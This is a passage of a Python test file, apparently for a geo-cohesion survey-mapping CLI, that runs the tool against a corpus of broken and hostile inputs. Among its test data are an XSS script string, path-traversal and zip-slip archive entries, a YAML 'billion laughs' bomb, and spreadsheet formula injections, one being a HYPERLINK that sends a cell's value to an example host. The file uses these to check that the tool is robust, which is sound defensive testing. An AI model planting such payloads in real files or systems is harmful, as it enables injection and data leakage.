"""Bad-input corpus: broken and hostile inputs, each run through the real command line.

A small valid project (survey, population, structural data, four square districts, project.yaml)
is built in code; every case changes ONE thing and runs ``geo-cohesion run project.yaml --out OUT``
in a child process. For a case that must fail the tests assert: exit code 2, exactly one stderr line
``geo-cohesion: error: ...`` that names where the problem is and how to fix it (`` – hint``), no
traceback, and an output folder that already held good results is left byte-identical (no new or
temporary files). Cases that must work (encodings, repaired geometry, hostile names ...) exit 0
and write nothing outside OUT.

Speed: the valid project runs in a fresh ``python -m geo_cohesion.cli``; the cases run in processes
forked from a server that has imported numpy, pandas, geopandas & co. once (each child executes
``geo_cohesion.cli`` as ``__main__``, as ``-m`` does, with its own working folder, stdout, stderr
and exit code). ``GEO_COHESION_CORPUS_SUBPROCESS=1`` runs every case in a fresh interpreter.

The corpus runs the CLI ~60 times and is marked ``slow``; the fast loop
(``-m "not slow and not browser"``) keeps only the checks that need no run.

``docs/errors.md`` is generated from this corpus::

    python tests/test_bad_inputs.py --write-docs docs/errors.md
"""
from __future__ import annotations

import argparse
import functools
import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import unicodedata
import warnings
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
if __name__ == "__main__" and str(REPO) not in sys.path:  # `python tests/test_bad_inputs.py`: test this checkout
    sys.path.insert(0, str(REPO))
DOCS = REPO / "docs" / "errors.md"
PREFIX = "geo-cohesion: error: "
OUT_PARTS = ("run", "results", "out")  # OUT lies 3 levels below the case folder: escapes stay visible

IDS = ["101", "102", "103", "104"]
NAMES = ["Altstadt", "Hörde", "Süd-Ost", "Weißenburg"]
AGES = ["18-34", "35-64", "65+"]
GENDERS = ["weiblich", "männlich"]
HOSTILE = ["<script>alert(1)</script>", "O'Brien \"Quote\" Straße", "Nord\nSüd", "../../etc"]


def _codebook() -> pd.DataFrame:
    from importlib import resources

    ref = resources.files("geo_cohesion").joinpath("radar/data/codebook_radar.csv")
    return pd.read_csv(ref.open("rb"), dtype=str, keep_default_na=False)


ITEMS = _codebook()["item"].tolist()
SCALE_MAX = _codebook()["scale_max"].astype(int).tolist()


# ---------------------------------------------------------------------------------------------
# The valid project


@dataclass
class Project:
    """All inputs of the small valid project, as data; :meth:`write` puts them into a folder."""

    root: Path
    survey: pd.DataFrame
    population: pd.DataFrame
    structural: pd.DataFrame
    boundaries: object  # GeoDataFrame
    config: dict

    @property
    def dir(self) -> Path:
        return self.root / "project"

    @property
    def out(self) -> Path:
        return self.root.joinpath(*OUT_PARTS)

    @property
    def city(self) -> dict:
        return self.config["cities"][0]

    def path(self, name: str) -> Path:
        return self.dir / name

    def write(self) -> None:
        self.dir.mkdir(parents=True, exist_ok=True)
        self.survey.to_csv(self.path("survey.csv"), index=False)
        self.population.to_csv(self.path("population.csv"), index=False)
        self.structural.to_csv(self.path("structural.csv"), index=False)
        write_gpkg(self.boundaries, self.path("boundaries.gpkg"))
        self.write_config()

    def write_config(self, text: str | None = None) -> None:
        if text is None:
            text = yaml.safe_dump(self.config, allow_unicode=True, sort_keys=False)
        self.path("project.yaml").write_text(text, encoding="utf-8")

    def csv_text(self, frame: pd.DataFrame, **kwargs) -> str:
        return frame.to_csv(index=False, lineterminator="\n", **kwargs)


#: Cases are prepared in threads; GDAL writes and ``warnings`` filters are shared state.
_GDAL_LOCK = threading.Lock()


def write_gpkg(gdf, path: Path, layer: str = "bezirke", **kwargs) -> None:
    import pyogrio

    with _GDAL_LOCK, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        pyogrio.write_dataframe(gdf, path, layer=layer, **kwargs)


def write_shp(gdf, path: Path, **kwargs) -> Path:
    import pyogrio

    with _GDAL_LOCK, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        pyogrio.write_dataframe(gdf, path, **kwargs)
    return path


def base_project(root: Path) -> Project:
    """The valid project (deterministic): 4 districts x 30 respondents."""
    import geopandas as gpd
    import shapely

    rng = np.random.default_rng(7)
    rows = []
    for district in IDS:
        for k in range(30):
            row = {"bezirk": district, "altersgruppe": AGES[k % 3], "geschlecht": GENDERS[(k // 3) % 2],
                   "designgewicht": round(float(rng.uniform(0.5, 2.0)), 3)}
            answers = rng.integers(1, np.asarray(SCALE_MAX) + 1).astype(object)
            answers[rng.random(len(ITEMS)) < 0.04] = 9
            row.update(dict(zip(ITEMS, answers)))
            rows.append(row)
    survey = pd.DataFrame(rows)
    population = pd.DataFrame([
        {"bezirk": d, "altersgruppe": a, "geschlecht": g, "einwohner": int(rng.integers(800, 2000))}
        for d in IDS for a in AGES for g in GENDERS])
    structural = pd.DataFrame({"bezirk": IDS, "name": NAMES, "migration_share_pct": [31.5, 22.0, 18.25, 40.0],
                               "unemployment_pct": [9.1, 7.4, 6.0, 12.3], "sgb2_share_pct": [14.0, 11.2, 8.3, 19.9]})
    x0, y0, size = 390_000.0, 5_705_000.0, 1000.0
    boxes = [shapely.box(x0 + (i % 2) * size, y0 + (i // 2) * size, x0 + (i % 2 + 1) * size, y0 + (i // 2 + 1) * size)
             for i in range(len(IDS))]
    boundaries = gpd.GeoDataFrame({"bezirk": IDS, "name": NAMES}, geometry=boxes, crs="EPSG:25832")
    config = {
        "title": "Testprojekt",
        "seed": 1,
        "estimates": {"level": 0.95, "min_n": 10},
        "maps": {"figures": False},
        "compare": {"permutations": 99, "rank_draws": 500},
        "cities": [{
            "name": "Teststadt",
            "survey": {"path": "survey.csv", "district_column": "bezirk", "age_column": "altersgruppe",
                       "gender_column": "geschlecht", "weight_column": "designgewicht"},
            "population": {"path": "population.csv", "district_column": "bezirk", "age_column": "altersgruppe",
                           "gender_column": "geschlecht", "population_column": "einwohner"},
            "structural": {"path": "structural.csv", "district_column": "bezirk", "name_column": "name"},
            "weighting": {"margins": ["altersgruppe", "geschlecht", "bezirk"]},
            "boundaries": {"path": "boundaries.gpkg", "id_column": "bezirk", "name_column": "name"},
        }],
    }
    return Project(root, survey, population, structural, boundaries, config)


# ---------------------------------------------------------------------------------------------
# Mutations: each changes ONE thing of the written project


def _as_shapefile(p: Project, **kwargs) -> Path:
    """Write the boundaries as shapefile ``shp/bezirke.shp`` and point the config at it."""
    p.path("shp").mkdir(exist_ok=True)
    shp = write_shp(p.boundaries, p.path("shp") / "bezirke.shp", **kwargs)
    p.city["boundaries"]["path"] = "shp/bezirke.shp"
    p.write_config()
    return shp


def _drop_sidecar(ext: str) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        _as_shapefile(p).with_suffix(ext).unlink()
    return mutate


def _boundaries_crs(crs: str) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        p.city["boundaries"]["crs"] = crs
        p.write_config()
    return mutate


def _set_geometry(index: int, geom_factory: Callable) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        gdf = p.boundaries.copy()
        gdf.loc[index, "geometry"] = geom_factory(gdf.geometry.iloc[index])
        write_gpkg(gdf, p.path("boundaries.gpkg"))
    return mutate


def _bow_tie(geom):
    import shapely

    x0, y0, x1, y1 = geom.bounds
    return shapely.Polygon([(x0, y0), (x1, y1), (x1, y0), (x0, y1), (x0, y0)])


def _empty(_geom):
    import shapely

    return shapely.Polygon()


def _points(p: Project) -> None:
    gdf = p.boundaries.copy()
    gdf["geometry"] = gdf.geometry.centroid
    write_gpkg(gdf, p.path("boundaries.gpkg"))


def _boundary_ids(ids: list) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        gdf = p.boundaries.copy()
        gdf["bezirk"] = ids
        write_gpkg(gdf, p.path("boundaries.gpkg"))
    return mutate


def _boundaries_drop_last(p: Project) -> None:
    write_gpkg(p.boundaries.iloc[:-1], p.path("boundaries.gpkg"))


def _dbf_cp1252(p: Project) -> None:
    shp = _as_shapefile(p, encoding="cp1252")
    shp.with_suffix(".cpg").unlink(missing_ok=True)


def _geojson_not_json(p: Project) -> None:
    p.path("bezirke.geojson").write_text('{"type": "FeatureCollection", "features": [ {oops', encoding="utf-8")
    p.city["boundaries"]["path"] = "bezirke.geojson"
    p.write_config()


def _gpkg_two_layers(p: Project) -> None:
    points = p.boundaries.copy()
    points["geometry"] = points.geometry.centroid
    write_gpkg(points, p.path("boundaries.gpkg"), layer="schulen", append=True)


def _zip_slip(p: Project) -> None:
    shp = _as_shapefile(p)
    with zipfile.ZipFile(p.path("bezirke.zip"), "w") as archive:
        for ext in (".shp", ".shx", ".dbf", ".prj"):
            archive.write(shp.with_suffix(ext), f"../evil{ext}")
    shutil.rmtree(p.path("shp"))
    p.city["boundaries"]["path"] = "bezirke.zip"
    p.write_config()


def _cell(frame_name: str, row: int, column: str, value) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        frame = getattr(p, frame_name).astype(object).copy()
        frame.loc[row, column] = value
        frame.to_csv(p.path(f"{frame_name}.csv"), index=False)
    return mutate


def _survey_bytes(encode: Callable[[Project, str], bytes]) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        p.path("survey.csv").write_bytes(encode(p, p.csv_text(p.survey)))
    return mutate


def _semicolon_decimal_comma(p: Project, _text: str) -> bytes:
    return p.csv_text(p.survey, sep=";", decimal=",").encode("utf-8")


def _mixed_encoding(p: Project, text: str) -> bytes:
    lines = text.split("\n")
    # the first rows were saved as UTF-8, a later row by another program as Windows-1252
    return ("\n".join(lines[:60]) + "\n").encode("utf-8") + "\n".join(lines[60:]).encode("cp1252")


def _undecodable(p: Project, text: str) -> bytes:
    lines = text.split("\n")
    lines[3] = lines[3].replace("weiblich", "weib\x00lich")
    return "\n".join(lines).encode("utf-8").replace(b"\x00", b"\x81\x8d")


def _duplicate_column(p: Project, text: str) -> bytes:
    header, rest = text.split("\n", 1)
    return (header.replace(",sn2,", ",sn1,") + "\n" + rest).encode("utf-8")


def _ragged(p: Project, text: str) -> bytes:
    lines = text.split("\n")
    lines[5] += ",3,4"
    return "\n".join(lines).encode("utf-8")


def _ragged_short(p: Project, text: str) -> bytes:
    lines = text.split("\n")
    lines[7] = ",".join(lines[7].split(",")[:10])
    return "\n".join(lines).encode("utf-8")


def _header_only(p: Project, text: str) -> bytes:
    return text.split("\n", 1)[0].encode("utf-8") + b"\n"


def _huge_cell(p: Project) -> None:
    frame = p.survey.copy()
    frame["bemerkung"] = ""
    frame.loc[2, "bemerkung"] = "x" * 5_000_000
    frame.to_csv(p.path("survey.csv"), index=False)


def _huge_name(p: Project) -> None:
    frame = p.structural.copy()
    frame.loc[1, "name"] = "Hörde " * 850_000
    frame.to_csv(p.path("structural.csv"), index=False)


def _all_missing_respondent(p: Project) -> None:
    frame = p.survey.astype(object).copy()
    frame.loc[5, ITEMS] = ""
    frame.to_csv(p.path("survey.csv"), index=False)


def _drop_column(frame_name: str, column: str) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        getattr(p, frame_name).drop(columns=[column]).to_csv(p.path(f"{frame_name}.csv"), index=False)
    return mutate


def _population(edit: Callable[[pd.DataFrame], pd.DataFrame]) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        edit(p.population.astype(object).copy()).to_csv(p.path("population.csv"), index=False)
    return mutate


def _pop_district_zero(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[frame["bezirk"] == "104", "einwohner"] = 0
    return frame


def _pop_negative(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[4, "einwohner"] = -120
    return frame


def _pop_gender_zero(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[frame["geschlecht"] == "männlich", "einwohner"] = 0
    return frame


def _pop_blank_age(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[[3, 9], "altersgruppe"] = ""
    return frame


def _pop_extra_age(frame: pd.DataFrame) -> pd.DataFrame:
    extra = frame[frame["altersgruppe"] == "65+"].copy()
    extra["altersgruppe"] = "80+"
    return pd.concat([frame, extra], ignore_index=True)


def _pop_extra_district(frame: pd.DataFrame) -> pd.DataFrame:
    extra = frame[frame["bezirk"] == "104"].copy()
    extra["bezirk"] = "105"
    return pd.concat([frame, extra], ignore_index=True)


def _survey_district(old: str, new: str) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        frame = p.survey.copy()
        frame.loc[frame["bezirk"] == old, "bezirk"] = new
        frame.to_csv(p.path("survey.csv"), index=False)
    return mutate


def _survey_gender_divers(p: Project) -> None:
    frame = p.survey.copy()
    frame.loc[[10, 11], "geschlecht"] = "divers"
    frame.to_csv(p.path("survey.csv"), index=False)


def _structural_extra(p: Project) -> None:
    extra = pd.DataFrame({"bezirk": ["109"], "name": ["Neubaugebiet"], "migration_share_pct": [1.0],
                          "unemployment_pct": [1.0], "sgb2_share_pct": [1.0]})
    pd.concat([p.structural, extra], ignore_index=True).to_csv(p.path("structural.csv"), index=False)


def _strata_single(p: Project) -> None:
    frame = p.survey.copy()
    frame["schicht"] = np.where(frame["bezirk"].isin(["101", "102"]), "A", "B")
    frame.loc[17, "schicht"] = "C"
    frame.to_csv(p.path("survey.csv"), index=False)
    p.city["survey"]["strata_column"] = "schicht"
    p.write_config()


def _codebook_unknown_dimension(p: Project) -> None:
    book = _codebook()
    book.loc[4, "dimension"] = "vertrauen"
    book.to_csv(p.path("codebook.csv"), index=False)
    p.city["survey"]["codebook"] = "codebook.csv"
    p.write_config()


def _structural_own_columns(p: Project) -> None:
    """Own column names, one of them unsafe as a file name, declared with labels; figures on."""
    frame = p.structural.rename(columns={"sgb2_share_pct": "Anteil SGB II/XII %", "unemployment_pct": "arbeitslose"})
    frame.to_csv(p.path("structural.csv"), index=False)
    p.city["structural"]["indicators"] = {
        "Anteil SGB II/XII %": {"label": "<b>Transferbezug</b>", "unit": "%", "role": "deprivation"},
        "arbeitslose": {"label": "Arbeitslose", "unit": "%", "direction": "higher_is_worse"}}
    p.config["maps"] = {"figures": True, "figure_formats": ["svg"]}
    p.write_config()


def _check_own_columns(p: Project, result) -> None:
    html = _html(p)
    assert "<b>Transferbezug" not in html and "Transferbezug" in html
    assert (p.out / "figures" / "teststadt_anteil-sgb-ii-xii.svg").exists()
    assert (p.out / "figures" / "teststadt_index_vs_anteil-sgb-ii-xii.svg").exists()
    assoc = pd.read_csv(p.out / "tables" / "association_teststadt.csv")
    assert set(assoc["indicator"]) == {"migration_share_pct", "arbeitslose", "Anteil SGB II/XII %"}


def _declare(column: str, spec: dict) -> Callable[[dict], None]:
    return lambda c: c["cities"][0]["structural"].update(indicators={column: spec})


def _config(edit: Callable[[dict], None]) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        edit(p.config)
        p.write_config()
    return mutate


def _config_text(text: str) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        p.write_config(text)
    return mutate


def _config_invalid_yaml(p: Project) -> None:
    text = yaml.safe_dump(p.config, allow_unicode=True, sort_keys=False)
    assert "- name: Teststadt\n" in text
    p.write_config(text.replace("- name: Teststadt\n", "- name: Teststadt\n  survey: [unclosed\n", 1))


def _config_directory(p: Project) -> None:
    p.path("project.yaml").unlink()
    p.path("project.yaml").mkdir()
    p.path("project.yaml").joinpath("README").write_text("a folder", encoding="utf-8")


def _folder_as_survey(p: Project) -> None:
    p.path("daten").mkdir()
    p.path("daten").joinpath("survey.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    p.city["survey"]["path"] = "daten"
    p.write_config()


def _survey_binary(p: Project) -> None:
    with zipfile.ZipFile(p.path("survey.csv"), "w") as archive:  # an .xlsx (a zip) renamed to .csv
        archive.writestr("xl/workbook.xml", "<workbook/>")


def _structural_duplicate(p: Project) -> None:
    frame = p.structural.copy()
    frame.loc[2, "bezirk"] = "102"
    frame.to_csv(p.path("structural.csv"), index=False)


def _hostile_names(p: Project) -> None:
    structural = p.structural.copy()
    structural["name"] = HOSTILE
    structural.to_csv(p.path("structural.csv"), index=False)
    gdf = p.boundaries.copy()
    gdf["name"] = HOSTILE
    write_gpkg(gdf, p.path("boundaries.gpkg"))


def _hostile_ids(p: Project) -> None:
    mapping = dict(zip(IDS, HOSTILE))
    for name in ("survey", "population", "structural"):
        frame = getattr(p, name).copy()
        frame["bezirk"] = frame["bezirk"].map(mapping)
        frame.to_csv(p.path(f"{name}.csv"), index=False)
    gdf = p.boundaries.copy()
    gdf["bezirk"] = gdf["bezirk"].map(mapping)
    write_gpkg(gdf, p.path("boundaries.gpkg"))


def _hostile_city(name: str) -> Callable[[Project], None]:
    return _config(lambda c: c["cities"][0].update(name=name))


def _survey_utf8_bom(p: Project, text: str) -> bytes:
    return b"\xef\xbb\xbf" + text.encode("utf-8")


def _survey_cp1252(p: Project, text: str) -> bytes:
    return p.csv_text(p.survey, sep=";", decimal=",").encode("cp1252")


# --- families added with the hardening of issue #19 (number formats, weights, project file, outputs)


def _survey_nfd(p: Project, text: str) -> bytes:
    return unicodedata.normalize("NFD", text).encode("utf-8")  # "männlich" as a + combining diaeresis (macOS)


def _check_cp1252_note(p: Project, result) -> None:
    _check_tables(p, result)
    assert "note: survey.csv: not UTF-8, read as Windows-1252" in result.stdout
    assert "population.csv" not in result.stdout  # UTF-8 files get no note


def _check_nfd_names(p: Project, result) -> None:
    _check_same_index_as_good(p, result)
    names = pd.read_csv(p.out / "tables" / "district_estimates.csv")["district_name"]
    assert set(names) == set(NAMES)  # composed again: no "u + combining diaeresis" in the outputs


def _german_thousands(frame: pd.DataFrame) -> pd.DataFrame:
    """Counts as German Excel exports them: '1.234' next to '987' (2.069 or 2069?)."""
    frame["einwohner"] = [f"{int(v):,}".replace(",", ".") for v in frame["einwohner"]]
    return frame


def _population_german_csv(declare: bool) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        frame = _german_thousands(p.population.astype(object).copy())
        frame.to_csv(p.path("population.csv"), index=False, sep=";")
        if declare:
            p.city["population"].update(decimal=",", thousands=".")
            p.write_config()
    return mutate


def _good_value(p: Project, table: str, variable: str = "index") -> float:
    frame = pd.read_csv(p.root.parent.joinpath("good", *OUT_PARTS, "tables", table))
    return float(frame.loc[frame["variable"] == variable, "estimate"].iloc[0])


def _check_same_index_as_good(p: Project, result) -> None:
    table = pd.read_csv(p.out / "tables" / "city_estimates.csv")
    index = float(table.loc[table["variable"] == "index", "estimate"].iloc[0])
    assert index == pytest.approx(_good_value(p, "city_estimates.csv"), abs=1e-9)


def _check_weight_warning(p: Project, result) -> None:
    diagnostics = pd.read_csv(p.out / "tables" / "weighting_diagnostics.csv")
    assert "design effect" in " ".join(diagnostics["warnings"].fillna("").astype(str))


def _raw_config(edit: Callable[[str], str]) -> Callable[[Project], None]:
    """Edit the project file as text (YAML features a dict cannot express)."""
    def mutate(p: Project) -> None:
        p.write_config(edit(yaml.safe_dump(p.config, allow_unicode=True, sort_keys=False)))
    return mutate


def _config_bytes(encode: Callable[[str], bytes]) -> Callable[[Project], None]:
    """Write the project file as bytes (encodings, byte-order marks, line ends)."""
    def mutate(p: Project) -> None:
        p.path("project.yaml").write_bytes(encode(yaml.safe_dump(p.config, allow_unicode=True, sort_keys=False)))
    return mutate


def _billion_laughs(text: str) -> str:
    lines, previous = ['  a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'], "a"
    for name in "bcdefghi":
        lines.append(f"  {name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
        previous = name
    return text + "laughs:\n" + "\n".join(lines) + "\n"


def _deep_nesting(text: str) -> str:
    return text.replace("title: Testprojekt", "title: " + "[" * 5000 + "]" * 5000, 1)


def _unquoted_ids_and_words(text: str) -> str:
    """Group members typed unquoted (0101 is not octal 65) and a group called 'no' (not false)."""
    assert "- name: Teststadt\n" in text
    return text.replace("- name: Teststadt\n", "- name: Teststadt\n  groups: {no: [0101, 102], yes: [103, 104]}\n", 1)


def _groups(p: Project) -> None:
    p.city["groups"] = {"Nord": ["101", "102"], "Süd": ["103", "104"]}


def _slug_collision(p: Project) -> None:
    _groups(p)
    other = yaml.safe_load(yaml.safe_dump(p.city))
    other.update(name="Teststadt Gruppen", slug="teststadt_gruppen", groups={})
    p.config["cities"].append(other)
    p.write_config()


_HELD_LOCKS: list = []


def _locked_out(p: Project) -> None:
    """Another run holds the lock of the output folder (a second process writing into it)."""
    import fcntl

    from geo_cohesion.io.write import LOCK_NAME

    folder = p.root / "locked"
    folder.mkdir(parents=True)
    handle = open(folder / LOCK_NAME, "a+")  # noqa: SIM115 - held until the test session ends
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
    _HELD_LOCKS.append(handle)


def _translate(offset: float) -> Callable:
    def move(geom):
        import shapely

        return shapely.transform(geom, lambda xy: xy + offset)
    return move


def _nan_vertex(geom):
    import shapely

    coords = np.asarray(geom.exterior.coords)
    coords[1] = np.nan
    return shapely.Polygon(coords)


def _structural_names(names: list[str], figures: bool = False) -> Callable[[Project], None]:
    def mutate(p: Project) -> None:
        structural = p.structural.copy()
        structural["name"] = names
        structural.to_csv(p.path("structural.csv"), index=False)
        gdf = p.boundaries.copy()
        gdf["name"] = names
        write_gpkg(gdf, p.path("boundaries.gpkg"))
        if figures:
            p.config["maps"] = {"figures": True, "figure_formats": ["svg"]}
            p.write_config()
    return mutate


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Hörde\")", "+1+2", "-3+4", "@SUM(A1)"]


def _check_formulas(p: Project, result) -> None:
    for path in (p.out / "tables").rglob("*.csv"):
        text = path.read_text(encoding="utf-8-sig" if "excel_de" in path.parts else "utf-8")
        for cell in (c.strip('"') for line in text.splitlines() for c in line.replace(";", ",").split(",")):
            assert not cell.startswith(("=", "+", "@")), (path.name, cell)
    names = pd.read_csv(p.out / "tables" / "district_estimates.csv", dtype=str)["district_name"]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Hörde\")" in set(names)


def _check_mathtext(p: Project, result) -> None:
    figures = list((p.out / "figures").glob("*.svg"))
    assert figures and any("$" in f.read_text(encoding="utf-8") for f in figures)


def _check_all_suppressed(p: Project, result) -> None:
    table = pd.read_csv(p.out / "tables" / "district_estimates.csv")
    assert table["suppressed"].astype(bool).all()


def _check_text_column_note(p: Project, result) -> None:
    meta = (p.out / "tables" / "metadata.json").read_text(encoding="utf-8")
    assert "unemployment_pct" in meta and "mostly numbers" in meta
    need = p.out / "tables" / "need_teststadt.csv"
    assert not need.exists() or "unemployment_pct" not in need.read_text(encoding="utf-8").splitlines()[0]


def _declared_text_cell(p: Project) -> None:
    _cell("structural", 1, "unemployment_pct", "k.A.")(p)
    p.city["structural"]["indicators"] = {"unemployment_pct": {"label": "Arbeitslosenquote", "unit": "%"}}
    p.write_config()


def _check_groups_as_typed(p: Project, result) -> None:
    groups = pd.read_csv(p.out / "tables" / "group_estimates.csv", dtype=str)
    assert set(groups["group"]) == {"no", "yes"}


def _population_xlsx_text_thousands(p: Project) -> None:
    """Counts typed as text in Excel with German thousands separators ('1.234'), next to '987'."""
    population = p.population.astype(object).copy()
    counts = p.population["einwohner"]
    population["einwohner"] = [f"{v // 1000}.{v % 1000:03d}" if v >= 1000 else str(v) for v in counts]
    population.to_excel(p.path("population.xlsx"), index=False)
    p.city["population"]["path"] = "population.xlsx"
    p.write_config()


def _population_xlsx_uncached_formulas(p: Project) -> None:
    """A population workbook written by a script with formulas (no stored results: pandas reads empty cells)."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(p.population.columns))
    for line, row in enumerate(p.population.itertuples(index=False), start=2):
        values = list(row)
        if line == 5:
            values[-1] = f"=D{line - 1}+10"
        sheet.append(values)
    book.save(p.path("population.xlsx"))
    p.city["population"]["path"] = "population.xlsx"
    p.write_config()


def _survey_trailing_separator(p: Project, _text: str) -> bytes:
    """German Excel: BOM, CRLF, ';' and a ';' at the end of every line (one empty column more)."""
    text = p.csv_text(p.survey, sep=";")
    return ("\ufeff" + "".join(line + ";\r\n" for line in text.splitlines())).encode("utf-8")


def _structural_and_need(edit: Callable[[pd.DataFrame], pd.DataFrame]) -> Callable[[Project], None]:
    """Edit the structural table and choose the need index's indicators."""
    def mutate(p: Project) -> None:
        edit(p.structural.copy()).to_csv(p.path("structural.csv"), index=False)
        p.config["need"] = {"indicators": {"unemployment_pct": 1, "sgb2_share_pct": 1}}
        p.write_config()
    return mutate


def _wave_scores(ids: list[str], copies: int = 1) -> Callable[[Project], None]:
    """An earlier wave given as a score table for ``ids`` (``copies`` waves with the same label)."""
    def mutate(p: Project) -> None:
        rows = [{"bezirk": d, "variable": "index", "estimate": 50.0, "se": 2.0, "n": 30} for d in ids]
        pd.DataFrame(rows).to_csv(p.path("welle2015.csv"), index=False)
        p.city["waves"] = [{"label": "2015", "scores": {"path": "welle2015.csv", "district_column": "bezirk"}}
                           for _ in range(copies)]
        p.write_config()
    return mutate


def _scores_instead(edit: Callable[[pd.DataFrame], pd.DataFrame]) -> Callable[[Project], None]:
    """The city given as already weighted district scores (``scores``, no microdata), edited by ``edit``."""
    def mutate(p: Project) -> None:
        rows = [{"bezirk": d, "variable": v, "estimate": 50.0 + i + k, "se": 1.5, "n": 30}
                for i, d in enumerate(IDS) for k, v in enumerate(["index", "soziale_beziehungen"])]
        edit(pd.DataFrame(rows)).to_csv(p.path("scores.csv"), index=False)
        for key in ("survey", "population", "weighting"):
            p.city.pop(key)
        p.city["scores"] = {"path": "scores.csv", "district_column": "bezirk"}
        p.write_config()
    return mutate


def _score_label(frame: pd.DataFrame) -> pd.DataFrame:
    return frame.assign(variable=frame["variable"].replace({"index": "Zusammenhaltsindex"}))


def _score_n_negative(frame: pd.DataFrame) -> pd.DataFrame:
    frame.loc[5, "n"] = -3
    return frame


# ---------------------------------------------------------------------------------------------
# Checks for cases that must work


def _html(p: Project) -> str:
    pages = list(p.out.glob("*.html"))
    assert len(pages) == 1, pages
    return pages[0].read_text(encoding="utf-8")


def _check_repair_note(p: Project, result) -> None:
    html = _html(p)
    assert "Hinweis zu den Grenzen" in html and "102" in html and "make_valid" in html


def _check_umlauts(p: Project, result) -> None:
    html = _html(p)
    for name in NAMES:
        assert name in html, name
    assert "Ã" not in html


def _check_hostile(p: Project, result) -> None:
    html = _html(p)
    assert "<script>alert(1)" not in html
    table = pd.read_csv(p.out / "tables" / "district_estimates.csv", dtype=str)
    assert len(table["district_id"].unique()) == 4


def _check_all_missing(p: Project, result) -> None:
    table = pd.read_csv(p.out / "tables" / "city_estimates.csv")
    index = table.loc[table["variable"] == "index"].iloc[0]
    assert index["n"] <= 119 and index["estimate"] > 0


def _check_city_slug(p: Project, result) -> None:
    assert (p.out / "teststadt.html").exists()
    assert "../../Teststadt" in (p.out / "tables" / "metadata.json").read_text(encoding="utf-8")


def _check_tables(p: Project, result) -> None:
    table = pd.read_csv(p.out / "tables" / "district_estimates.csv", dtype={"district_id": str})
    assert sorted(table["district_id"].unique()) == IDS


# ---------------------------------------------------------------------------------------------
# The corpus


@dataclass(frozen=True)
class Case:
    """One bad input. ``where``: texts the message must contain (file, line, column, district)."""

    id: str
    problem: str
    mutate: Callable[[Project], None]
    where: tuple[str, ...] = ()
    ok: bool = False
    check: Callable | None = None
    config: str = "project.yaml"
    out: str | None = None  # --out relative to the case folder (default: OUT)
    works: str = ""  # for cases that must work: what happens (docs)


CASES: list[Case] = [
    # --- boundaries
    Case("shp_without_dbf", "Shapefile without its .dbf", _drop_sidecar(".dbf"), ("bezirke.shp", "bezirke.dbf")),
    Case("shp_without_shx", "Shapefile without its .shx", _drop_sidecar(".shx"), ("bezirke.shp", "bezirke.shx")),
    Case("shp_without_prj", "Shapefile without .prj and no `crs:` in the config", _drop_sidecar(".prj"),
         ("bezirke.shp", ".prj", "crs")),
    Case("crs_unknown", "Unknown CRS string in `boundaries.crs`", _boundaries_crs("EPSG:999999"),
         ("boundaries.gpkg", "EPSG:999999")),
    Case("crs_garbage", "CRS that is not a CRS at all", _boundaries_crs("Gauss-Krüger irgendwas"),
         ("boundaries.gpkg", "Gauss-Krüger irgendwas")),
    Case("crs_wrong", "Wrong CRS: degrees claimed for metric coordinates", _boundaries_crs("EPSG:4326"),
         ("boundaries.gpkg", "EPSG:4326")),
    Case("geometry_self_intersecting", "Self-intersecting (bow-tie) district polygon",
         _set_geometry(1, _bow_tie), ok=True, check=_check_repair_note,
         works="repaired with make_valid; the map notes it (\"Hinweis zu den Grenzen: district 102 ...\")"),
    Case("geometry_empty", "Empty geometry of a district", _set_geometry(2, _empty), ("boundaries.gpkg", "103")),
    Case("geometry_points", "Points instead of polygons", _points, ("boundaries.gpkg", "101", "Point")),
    Case("boundaries_duplicate_ids", "Two districts with the same id in the boundaries",
         _boundary_ids(["101", "102", "102", "104"]), ("boundaries.gpkg", "bezirk", "102")),
    Case("boundaries_empty_ids", "A district without id in the boundaries",
         _boundary_ids(["101", "", "103", "104"]), ("boundaries.gpkg", "bezirk", "feature(s) 2")),
    Case("boundaries_overlapping", "Two districts overlapping (one drawn 300 m too large)",
         _set_geometry(1, lambda g: g.buffer(300, join_style="mitre")), ("boundaries.gpkg", "'102'", "overlap")),
    Case("boundaries_missing_district", "District in the survey but not in the boundaries", _boundaries_drop_last,
         ("boundaries.gpkg", "survey.csv", "104")),
    Case("boundaries_extra_district", "District in the boundaries but not in the survey",
         _boundary_ids(["101", "102", "103", "1004"]), ("boundaries.gpkg", "'1004'", "did you mean '104'")),
    Case("dbf_cp1252_umlauts", "Shapefile DBF in Windows-1252 with umlauts, no .cpg", _dbf_cp1252, ok=True,
         check=_check_umlauts, works="the encoding is detected from the text; umlauts are shown correctly"),
    Case("geojson_not_json", "GeoJSON file that is not JSON", _geojson_not_json, ("bezirke.geojson", "line 1")),
    Case("gpkg_two_layers", "GeoPackage with two layers and no `layer:` chosen", _gpkg_two_layers,
